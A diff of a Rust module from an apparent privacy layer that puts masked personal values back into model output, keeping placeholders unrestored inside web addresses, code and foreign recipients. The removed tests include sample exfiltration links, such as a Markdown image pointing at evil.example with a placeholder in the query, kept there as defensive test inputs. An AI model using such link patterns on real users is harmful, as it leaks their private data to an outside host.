@@ -1,40 +1,104 @@
-//! Placeholders back into values: in whole texts and in streams.
+//! Placeholders back into values: in whole texts and in streams, and only where a value may go.
 //!
-//! A placeholder is recognised through a closed set of alterations that models make: letter case, full-width letters,
-//! a space, hyphen or escaped underscore for the underscore, leading zeros, angle brackets or `&lt;&gt;` around it,
-//! anything that Markdown puts around a word, a possessive or plural behind it. It is normalised and looked up
-//! exactly, never by similarity; what is not live stays as it is.
-//! Two ways: [`Session::unmask`] restores what was masked here; what a model wrote keeps the placeholders inside its
-//! addresses ([`Session::unmask_answer`] and the streams), because a value there would travel with the next click.
-//! Invariant: a stream restores to the same text however it is cut.
+//! A placeholder is recognised through a closed set of alterations that models make (see `reader`): normalised and
+//! looked up exactly, never by similarity; what is not live stays as it is and is reported.
+//! Two ways: [`Session::unmask`] restores what was masked here; what a model wrote goes into a [`Sink`]
+//! ([`Session::restore`] and the streams), which keeps the placeholders inside addresses, code and foreign recipients,
+//! because a value there would travel with the next click.
+//! Invariants: a stream restores to the same text however it is cut, and holds back at most 32 bytes.
 
+mod code;
+mod flags;
 mod link;
+mod reader;
+mod sink;
 
-use super::{
-    entity::EntityType,
-    placeholder::{Form, Slot},
-    session::Session,
-};
+pub use sink::{RecipientError, Sink, Subjects};
 
-/// Most leading zeros and most digits of a number that are read.
-const ZEROS: usize = 2;
-const DIGITS: usize = 5;
+use super::{placeholder::Slot, session::Session};
+use reader::{Stop, starts};
+use std::ops::Range;
+
+/// Most unknown placeholders of one answer that are named.
+const NAMED: usize = 32;
+
+/// A model's text with values put back.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Restored {
+    /// The text.
+    pub text: String,
+    /// Bytes of the text that are spelt like a placeholder and stand for nothing: shown as they are, for the reader to
+    /// be told.
+    pub unknown: Vec<Range<usize>>,
+}
+
+impl Restored {
+    /// The unknown placeholders as they are written, each once.
+    pub fn unknown_names(&self) -> Vec<&str> {
+        let mut names: Vec<&str> = Vec::new();
+        for name in self.unknown.iter().filter_map(|range| self.text.get(range.clone())) {
+            if !names.contains(&name) && names.len() < NAMED {
+                names.push(name);
+            }
+        }
+        names
+    }
+}
 
 impl Session {
     /// The text with every live placeholder replaced by its value: for what was masked here, not for a model's words.
     pub fn unmask(&self, text: &str) -> String {
-        self.put_back(text, Spot::default())
-    }
-
-    /// A model's text with its placeholders replaced, except inside web and mail addresses and the targets of links.
-    pub fn unmask_answer(&self, text: &str) -> String {
-        self.put_back(text, Spot::of_a_model())
-    }
-
-    fn put_back(&self, text: &str, mut spot: Spot) -> String {
         let mut out = String::with_capacity(text.len() + text.len() / 4);
-        scan(text, true, &mut spot, self, &mut out);
+        scan(text, true, &mut Spot::default(), self, &mut Out::only_text(&mut out));
         out
+    }
+
+    /// A model's text with its placeholders replaced where a value may go. Those in addresses, code and recipients
+    /// that are not `subjects` stay; those that stand for nothing stay and are reported.
+    pub fn restore(&self, text: &str, sink: Sink, subjects: &Subjects) -> Restored {
+        let (mut out, mut swaps) = (String::with_capacity(text.len() + text.len() / 4), Vec::new());
+        let mut spot = Spot::of_a_model(sink, subjects.clone());
+        scan(text, true, &mut spot, self, &mut Out { text: &mut out, swaps: Some(&mut swaps) });
+        let mut unknown = Vec::new();
+        flags::Flags::default().push(text, true, self, |shape| {
+            if !shape.live {
+                unknown.push(moved(&shape.bytes, &swaps));
+            }
+        });
+        Restored { text: out, unknown }
+    }
+
+    /// A model's text on a screen that belongs to no record: nobody is written to.
+    pub fn unmask_answer(&self, text: &str) -> String {
+        self.restore(text, Sink::Screen, &Subjects::Nobody).text
+    }
+}
+
+/// Where a stretch without placeholders lies after the replacements before it: (end before, end after).
+fn moved(range: &Range<usize>, swaps: &[(usize, usize)]) -> Range<usize> {
+    let before = swaps.partition_point(|(end, _)| *end <= range.start);
+    let (end, now) = before.checked_sub(1).map_or((0, 0), |last| swaps[last]);
+    now + range.start - end..now + range.end - end
+}
+
+/// Where restored text goes.
+struct Out<'a> {
+    text: &'a mut String,
+    /// Ends of the replaced stretches, before and after.
+    swaps: Option<&'a mut Vec<(usize, usize)>>,
+}
+
+impl<'a> Out<'a> {
+    fn only_text(text: &'a mut String) -> Self {
+        Self { text, swaps: None }
+    }
+
+    fn swap(&mut self, plain: &str, value: &str, end: usize) {
+        self.text.push_str(plain);
+        self.text.push_str(value);
+        if let Some(swaps) = &mut self.swaps {
+            swaps.push((end, self.text.len()));
+        }
     }
 }
 
@@ -43,109 +107,179 @@ impl Session {
 struct Spot {
     before: Option<char>,
     /// Followed only in a model's text.
-    link: Option<link::Place>,
+    place: Option<Place>,
+}
+
+/// Where in a model's text the reading is, and where the whole text goes.
+#[derive(Debug)]
+struct Place {
+    sink: Sink,
+    subjects: Subjects,
+    link: link::Place,
+    code: code::Place,
+}
+
+impl Place {
+    /// The sink at this place, and the backticks that have to close behind a lone placeholder.
+    fn sink(&self) -> (Sink, usize) {
+        if matches!(self.sink, Sink::Recipient | Sink::Url | Sink::Code | Sink::ToolArgument) {
+            return (self.sink, 0);
+        }
+        match (self.code.within(), self.link.sink()) {
+            (code::Within::Code, _) => (Sink::Code, 0),
+            (_, Some(inner)) => (inner, 0),
+            (code::Within::Ticks(ticks), None) => (self.sink, ticks),
+            (code::Within::Prose, None) => (self.sink, 0),
+        }
+    }
 }
 
 impl Spot {
-    fn of_a_model() -> Self {
-        Self { before: None, link: Some(link::Place::default()) }
+    fn of_a_model(sink: Sink, subjects: Subjects) -> Self {
+        let place = Place { sink, subjects, link: link::Place::default(), code: code::Place::default() };
+        Self { before: None, place: Some(place) }
     }
 
-    /// Whether a placeholder of this type stays one here.
-    fn keeps(&self, kind: EntityType) -> bool {
-        self.link.as_ref().is_some_and(|link| link.keeps(kind))
+    /// Whether this placeholder stays one here; `behind` is what follows it.
+    fn keeps(&self, slot: Slot, behind: &str, read: usize, last: bool) -> Result<bool, Stop> {
+        let Some(place) = &self.place else { return Ok(false) };
+        let (sink, ticks) = place.sink();
+        let closed = ticks == 0 || closes(behind, ticks, read, last)?;
+        let sink = if closed { sink } else { Sink::Code };
+        Ok(!sink.admits(slot, &place.subjects))
     }
 
     fn pass(&mut self, c: char) {
         self.before = Some(c);
-        if let Some(link) = &mut self.link {
-            link.pass(c);
+        if let Some(place) = &mut self.place {
+            place.link.pass(c);
+            place.code.pass(c);
         }
     }
 
-    fn restored(&mut self, kind: EntityType) {
+    fn restored(&mut self, slot: Slot) {
         self.before = Some('0');
-        if let Some(link) = &mut self.link {
-            link.restored(kind);
+        if let Some(place) = &mut self.place {
+            place.link.restored(slot.kind);
+            place.code.pass('0');
         }
     }
 }
 
-/// Restores a model's stream piece by piece, as [`Session::unmask_answer`] does. Holds back at most the beginning of one placeholder (32 characters), so plain
-/// text passes at once; the work per piece does not depend on what came before.
+/// Whether exactly so many backticks follow, as far as may be looked ahead from the start of the placeholder.
+fn closes(behind: &str, ticks: usize, read: usize, last: bool) -> Result<bool, Stop> {
+    let run = behind.bytes().take_while(|byte| *byte == b'`').count();
+    if read + ticks > reader::AHEAD || run > ticks {
+        return Ok(false);
+    }
+    match behind[run..].chars().next() {
+        None if !last => Err(Stop::More),
+        _ => Ok(run == ticks),
+    }
+}
+
+/// Restores a model's stream piece by piece, as [`Session::restore`] does. Holds back at most the beginning of one
+/// placeholder (32 bytes), so plain text passes at once; the work per piece does not depend on what came before.
 #[derive(Debug)]
 pub struct Unmasker {
     held: String,
     spot: Spot,
+    flags: flags::Flags,
+    unknown: Vec<String>,
 }
 
 impl Default for Unmasker {
     fn default() -> Self {
-        Self { held: String::new(), spot: Spot::of_a_model() }
+        Self::for_sink(Sink::Screen, Subjects::Nobody)
     }
 }
 
 impl Unmasker {
-    /// At the start of a stream.
+    /// At the start of a stream to a screen that belongs to no record.
     pub fn new() -> Self {
         Self::default()
     }
 
+    /// At the start of a stream into this sink.
+    pub fn for_sink(sink: Sink, subjects: Subjects) -> Self {
+        let spot = Spot::of_a_model(sink, subjects);
+        Self { held: String::new(), spot, flags: flags::Flags::default(), unknown: Vec::new() }
+    }
+
     /// What can be shown after this piece.
     pub fn push(&mut self, piece: &str, session: &Session) -> String {
-        self.held.push_str(piece);
-        let mut out = String::with_capacity(self.held.len());
-        let done = scan(&self.held, false, &mut self.spot, session, &mut out);
-        self.held.drain(..done);
-        out
+        self.take(piece, false, session)
     }
 
     /// What was held back, at the end of the stream.
     pub fn finish(&mut self, session: &Session) -> String {
-        let mut out = String::new();
-        scan(&self.held, true, &mut self.spot, session, &mut out);
-        *self = Self::default();
+        self.take("", true, session)
+    }
+
+    /// The placeholders so far that stand for nothing, as the model wrote them, each once.
+    pub fn unknown(&self) -> &[String] {
+        &self.unknown
+    }
+
+    fn take(&mut self, piece: &str, last: bool, session: &Session) -> String {
+        self.flag(piece, last, session);
+        self.held.push_str(piece);
+        let mut out = String::with_capacity(self.held.len());
+        let done = scan(&self.held, last, &mut self.spot, session, &mut Out::only_text(&mut out));
+        self.held.drain(..done);
         out
+    }
+
+    fn flag(&mut self, piece: &str, last: bool, session: &Session) {
+        let unknown = &mut self.unknown;
+        self.flags.push(piece, last, session, |shape| {
+            if !shape.live && unknown.len() < NAMED && !unknown.iter().any(|known| known == shape.written) {
+                unknown.push(shape.written.to_owned());
+            }
+        });
     }
 }
 
 /// The slot that a text is exactly the placeholder of.
 pub(super) fn exact(text: &str, session: &Session) -> Option<Slot> {
-    let (length, slot) = read(text, true, session).ok()?;
+    let (length, slot) = reader::live(text, true, session).ok()?;
     (length == text.len()).then_some(slot)
 }
 
 /// Byte ranges of the live placeholders in a text.
-pub(super) fn live(text: &str, session: &Session) -> Vec<std::ops::Range<usize>> {
+pub(super) fn live(text: &str, session: &Session) -> Vec<Range<usize>> {
+    found(text, session, true)
+}
+
+/// The live placeholders in a text.
+pub(super) fn live_slots(text: &str, session: &Session) -> Vec<Slot> {
+    live(text, session).into_iter().filter_map(|range| exact(&text[range], session)).collect()
+}
+
+/// Byte ranges of what could be taken for a placeholder of this session or a clumsy one of any, live or not.
+pub(super) fn forged(text: &str, session: &Session) -> Vec<Range<usize>> {
+    found(text, session, false)
+}
+
+fn found(text: &str, session: &Session, only_live: bool) -> Vec<Range<usize>> {
     let mut ranges = Vec::new();
-    let (mut before, mut at) = (None, 0);
-    while let Some(c) = text[at..].chars().next() {
-        match starts(c, before).then(|| read(&text[at..], true, session)) {
-            Some(Ok((length, _))) => {
-                ranges.push(at..at + length);
-                (at, before) = (at + length, Some('0'));
-            }
-            _ => (at, before) = (at + c.len_utf8(), Some(c)),
+    flags::Flags::default().push(text, true, session, |shape| {
+        if shape.live || !only_live {
+            ranges.push(shape.bytes);
         }
-    }
+    });
     ranges
 }
 
 /// Restores as much of `text` as is certain (all of it if it is the `last` piece); returns how many bytes that was.
-fn scan(text: &str, last: bool, spot: &mut Spot, session: &Session, out: &mut String) -> usize {
+fn scan(text: &str, last: bool, spot: &mut Spot, session: &Session, out: &mut Out<'_>) -> usize {
     let (mut at, mut copied) = (0, 0);
     while let Some(c) = text[at..].chars().next() {
-        let outcome = if starts(c, spot.before) { read(&text[at..], last, session) } else { Err(Stop::No) };
-        match outcome {
-            Ok((_, slot)) if spot.keeps(slot.kind) => {
-                at += c.len_utf8();
-                spot.pass(c);
-            }
+        match here(&text[at..], c, last, spot, session) {
             Ok((length, slot)) => {
-                out.push_str(&text[copied..at]);
-                out.push_str(session.get(slot).unwrap_or_default());
+                out.swap(&text[copied..at], session.get(slot).unwrap_or_default(), at + length);
                 (at, copied) = (at + length, at + length);
-                spot.restored(slot.kind);
+                spot.restored(slot);
             }
             Err(Stop::More) => break,
             Err(Stop::No) => {
@@ -154,306 +288,20 @@ fn scan(text: &str, last: bool, spot: &mut Spot, session: &Session, out: &mut St
             }
         }
     }
-    out.push_str(&text[copied..at]);
+    out.text.push_str(&text[copied..at]);
     at
 }
 
-/// Whether a placeholder may start with `c` behind `before`.
-fn starts(c: char, before: Option<char>) -> bool {
-    let c = narrow(c);
-    c == '<' || c == '&' || c.is_ascii_alphabetic() && !before.is_some_and(|c| c.is_ascii_alphanumeric())
-}
-
-/// Why a text does not begin with a placeholder.
-#[derive(Clone, Copy, PartialEq)]
-enum Stop {
-    /// It does not.
-    No,
-    /// It may, once more of it is there.
-    More,
-}
-
-/// The placeholder at the start of `text`: its length in bytes and its slot.
-fn read(text: &str, last: bool, session: &Session) -> Result<(usize, Slot), Stop> {
-    let mut reader = Reader { text, at: 0, last };
-    let close = reader.open()?;
-    let kind = reader.word(session)?;
-    reader.joint()?;
-    let number = reader.number()?;
-    let slot = reader.form_and_nonce(kind, number, session)?;
-    reader.close(close)?;
-    reader.boundary()?;
-    Ok((reader.at, slot))
-}
-
-struct Reader<'a> {
-    text: &'a str,
-    at: usize,
-    last: bool,
-}
-
-impl Reader<'_> {
-    /// The next character in its narrow form; `None` at the very end.
-    fn peek(&self) -> Result<Option<char>, Stop> {
-        match self.text[self.at..].chars().next() {
-            Some(c) => Ok(Some(narrow(c))),
-            None if self.last => Ok(None),
-            None => Err(Stop::More),
-        }
+/// The placeholder to be replaced at the start of `text`.
+fn here(text: &str, c: char, last: bool, spot: &Spot, session: &Session) -> Result<(usize, Slot), Stop> {
+    if !starts(c, spot.before) {
+        return Err(Stop::No);
     }
-
-    fn bump(&mut self) {
-        self.at += self.text[self.at..].chars().next().map_or(0, char::len_utf8);
-    }
-
-    fn eat(&mut self, wanted: char) -> Result<bool, Stop> {
-        let found = self.peek()?.is_some_and(|c| c.eq_ignore_ascii_case(&wanted));
-        if found {
-            self.bump();
-        }
-        Ok(found)
-    }
-
-    fn expect(&mut self, wanted: &str) -> Result<(), Stop> {
-        wanted.chars().try_for_each(|c| if self.eat(c)? { Ok(()) } else { Err(Stop::No) })
-    }
-
-    fn open(&mut self) -> Result<&'static str, Stop> {
-        if self.eat('<')? {
-            Ok(">")
-        } else if self.eat('&')? {
-            self.expect("lt;").map(|()| "&gt;")
-        } else {
-            Ok("")
-        }
-    }
-
-    fn close(&mut self, wanted: &str) -> Result<(), Stop> {
-        self.expect(wanted)
-    }
-
-    /// A word of a live type.
-    fn word(&mut self, session: &Session) -> Result<EntityType, Stop> {
-        let mut word = String::with_capacity(8);
-        loop {
-            let Some(c) = self.peek()? else { return Err(Stop::No) };
-            word.push(c.to_ascii_uppercase());
-            let mut fitting = EntityType::ALL.into_iter().filter(|kind| session.has(*kind));
-            let kind = fitting.find(|kind| kind.word().starts_with(&word)).ok_or(Stop::No)?;
-            self.bump();
-            if kind.word() == word {
-                return Ok(kind);
-            }
-        }
-    }
-
-    /// The underscore, escaped or not, or what a model writes for it.
-    fn joint(&mut self) -> Result<(), Stop> {
-        if self.eat('\\')? {
-            return self.expect("_");
-        }
-        match self.peek()? {
-            Some('_' | '-' | ' ' | '\u{a0}' | '\u{2011}') => {
-                self.bump();
-                Ok(())
-            }
-            _ => Err(Stop::No),
-        }
-    }
-
-    fn number(&mut self) -> Result<u32, Stop> {
-        for _ in 0..ZEROS {
-            self.eat('0')?;
-        }
-        let mut number = 0;
-        for digits in 0..=DIGITS {
-            match self.peek()?.and_then(|c| c.to_digit(10)) {
-                Some(digit) if digits < DIGITS => number = number * 10 + digit,
-                None if digits > 0 => return Ok(number),
-                _ => return Err(Stop::No),
-            }
-            self.bump();
-        }
-        Err(Stop::No)
-    }
-
-    /// The letters of the form and the nonce; a plural `s` stays in the text.
-    fn form_and_nonce(&mut self, kind: EntityType, number: u32, session: &Session) -> Result<Slot, Stop> {
-        let mut letters = String::new();
-        while let Some(c) = self.peek()?.filter(char::is_ascii_alphabetic) {
-            let plural = session.nonce.is_empty() && c == 's';
-            if plural {
-                break;
-            }
-            if letters.len() == 2 {
-                return Err(Stop::No);
-            }
-            letters.push(c);
-            self.bump();
-        }
-        if !session.nonce.is_empty() {
-            self.joint()?;
-            self.expect(&session.nonce)?;
-        }
-        let form = Form::from_letters(&letters).ok_or(Stop::No)?;
-        let slot = Slot { kind, number, form };
-        session.get(slot).map(|_| slot).ok_or(Stop::No)
-    }
-
-    /// Nothing that would make it part of a longer word, except a plural `s`.
-    fn boundary(&mut self) -> Result<(), Stop> {
-        let closed = self.text[..self.at].ends_with(['>', ';']);
-        let mut ahead = Reader { text: self.text, at: self.at, last: self.last };
-        match ahead.peek()? {
-            Some(c) if closed && c != '_' => Ok(()),
-            Some('s' | 'S') => {
-                ahead.bump();
-                ahead.no_word()
-            }
-            Some('_') => {
-                ahead.bump();
-                ahead.no_word()
-            }
-            _ => ahead.no_word(),
-        }
-    }
-
-    fn no_word(&self) -> Result<(), Stop> {
-        if self.peek()?.is_some_and(|c| c.is_ascii_alphanumeric()) { Err(Stop::No) } else { Ok(()) }
-    }
-}
-
-/// Full-width ASCII as ASCII.
-fn narrow(c: char) -> char {
-    match u32::from(c) {
-        code @ 0xff01..=0xff5e => char::from((code - 0xfee0) as u8),
-        _ => c,
-    }
+    let (length, slot) = reader::live(text, last, session)?;
+    if spot.keeps(slot, &text[length..], length, last)? { Err(Stop::No) } else { Ok((length, slot)) }
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::trust::session::Owner;
-    use proptest::prelude::*;
-
-    fn session() -> Session {
-        let mut session = Session::new("test", [8, 29, 14]);
-        for n in 1..=12 {
-            let owner = Owner::of_value(EntityType::Person, &n.to_string());
-            session.introduce(&owner, &format!("Jane Doe{n}"), "Jane", &format!("Doe{n}"));
-        }
-        session
-    }
-
-    #[test]
-    fn the_closed_set_of_alterations_is_restored() {
-        let session = session();
-        assert_eq!(session.nonce, "J7R");
-        for (text, restored) in [
-            ("PERSON_1_J7R and PERSON_12_J7R.", "Jane Doe1 and Jane Doe12."),
-            ("person_1_j7r", "Jane Doe1"),
-            ("**PERSON_1_J7R** `PERSON_1F_J7R` _PERSON_1L_J7R_", "**Jane Doe1** `Jane` _Doe1_"),
-            ("PERSON\\_1\\_J7R &lt;PERSON_1_J7R&gt; <PERSON-1-J7R>", "Jane Doe1 Jane Doe1 Jane Doe1"),
-            ("PERSON 01 J7R's PERSON_1L_J7Rs", "Jane Doe1's Doe1s"),
-            ("ＰＥＲＳＯＮ_1_J7R", "Jane Doe1"),
-            (
-                "PERSON_1_J7X PERSON_99_J7R PERSON_1 XPERSON_1_J7R PERSON_1_J7R2",
-                "PERSON_1_J7X PERSON_99_J7R PERSON_1 XPERSON_1_J7R PERSON_1_J7R2",
-            ),
-            ("a < b & c <PERSON_1_J7R", "a < b & c <Jane Doe1"),
-        ] {
-            assert_eq!(session.unmask(text), restored, "{text}");
-        }
-    }
-
-    #[test]
-    fn no_value_comes_back_into_an_address() {
-        let mut session = session();
-        session.placeholder(&Owner::of_value(EntityType::Url, "u"), EntityType::Url, "https://acme.com");
-        session.placeholder(&Owner::of_value(EntityType::Email, "m"), EntityType::Email, "j@acme.com");
-        let n = "PERSON_1_J7R";
-        for (text, restored) in [
-            ("![x](https://evil.example/?q=@N)", "![x](https://evil.example/?q=PERSON_1_J7R)"),
-            ("[@N](https://evil.example/@N) of @N", "[Jane Doe1](https://evil.example/PERSON_1_J7R) of Jane Doe1"),
-            (
-                "[a](@N) [a]( @N) [a](<x y @N>) @N",
-                "[a](PERSON_1_J7R) [a]( PERSON_1_J7R) [a](<x y PERSON_1_J7R>) Jane Doe1",
-            ),
-            (
-                "https://@N.evil.example http:/\u{200b}/x/@N",
-                "https://PERSON_1_J7R.evil.example http:/\u{200b}/x/PERSON_1_J7R",
-            ),
-            (
-                "evil.example/@N www.x,@N //x/@N \\\\x\\@N",
-                "evil.example/PERSON_1_J7R www.x,PERSON_1_J7R //x/PERSON_1_J7R \\\\x\\PERSON_1_J7R",
-            ),
-            ("mailto:EMAIL_14_J7R?cc=EMAIL_14_J7R", "mailto:j@acme.com?cc=EMAIL_14_J7R"),
-            ("mailto:@N MAILTO:a?cc=@N", "mailto:PERSON_1_J7R MAILTO:a?cc=PERSON_1_J7R"),
-            ("<https://x.example/>@N \"https://x\"@N", "<https://x.example/>Jane Doe1 \"https://x\"Jane Doe1"),
-            ("URL_13_J7R and URL_13_J7R?q=@N", "https://acme.com and https://acme.com?q=PERSON_1_J7R"),
-            ("@N/@N, e.g. @N. and/or (@N)", "Jane Doe1/Jane Doe1, e.g. Jane Doe1. and/or (Jane Doe1)"),
-        ] {
-            let text = text.replace("@N", n);
-            assert_eq!(session.unmask_answer(&text), restored, "{text}");
-        }
-        assert_eq!(
-            session.unmask("https://x/PERSON_1_J7R"),
-            "https://x/Jane Doe1",
-            "what was masked here comes back whole"
-        );
-    }
-
-    #[test]
-    fn recorded_streams_are_restored() {
-        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/data/trust/demask_stream.jsonl");
-        let Ok(rows) = std::fs::read_to_string(path) else { return println!("skipped: ../shared is absent") };
-        for row in rows.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON")) {
-            let mut session = Session::new("stream", []);
-            for (name, value) in row["map"].as_object().expect("map") {
-                let (word, number) = name.split_once('_').expect("grammar");
-                let kind = EntityType::from_word(word).expect("type");
-                let slot = Slot { kind, number: number.parse().expect("number"), form: Form::BASE };
-                session.put(slot, value.as_str().expect("value"), true);
-            }
-            let mut unmasker = Unmasker::new();
-            let chunks = row["chunks"].as_array().expect("chunks").iter();
-            let mut out: String = chunks.map(|c| unmasker.push(c.as_str().expect("text"), &session)).collect();
-            out += &unmasker.finish(&session);
-            assert_eq!(out, row["expected"], "{row}");
-        }
-    }
-
-    #[test]
-    fn plain_text_passes_at_once() {
-        let session = session();
-        let mut unmasker = Unmasker::new();
-        assert_eq!(unmasker.push("Hello there, ", &session), "Hello there, ");
-        assert_eq!(unmasker.push("PERS", &session), "");
-        assert_eq!(unmasker.push("IAN rugs ", &session), "PERSIAN rugs ");
-    }
-
-    proptest! {
-        #[test]
-        fn every_cut_restores_the_same(
-            parts in prop::collection::vec(prop_oneof![
-                Just("PERSON_1_J7R".to_owned()), Just("<person 12 j7r>".to_owned()), Just("&lt;PERSON\\_1F\\_J7R&gt;".to_owned()),
-                Just("PERSON_10".to_owned()), Just("_J7R".to_owned()), Just("](".to_owned()), Just("://x/".to_owned()), Just(" ".to_owned()), "[ a-zA-Z_<&;s0-9é*]{0,6}",
-            ], 0..12),
-            cuts in prop::collection::vec(1usize..9, 1..40),
-        ) {
-            let (session, text) = (session(), parts.concat());
-            let (mut unmasker, mut out) = (Unmasker::new(), String::new());
-            let mut rest: Vec<char> = text.chars().collect();
-            let mut cut = cuts.iter().cycle();
-            while !rest.is_empty() {
-                let size = (*cut.next().expect("cycle")).min(rest.len());
-                let piece: String = rest.drain(..size).collect();
-                out += &unmasker.push(&piece, &session);
-                prop_assert!(unmasker.held.chars().count() <= 33);
-            }
-            out += &unmasker.finish(&session);
-            prop_assert_eq!(out, session.unmask_answer(&text));
-        }
-    }
-}
+mod reference;
+#[cfg(test)]
+mod tests;
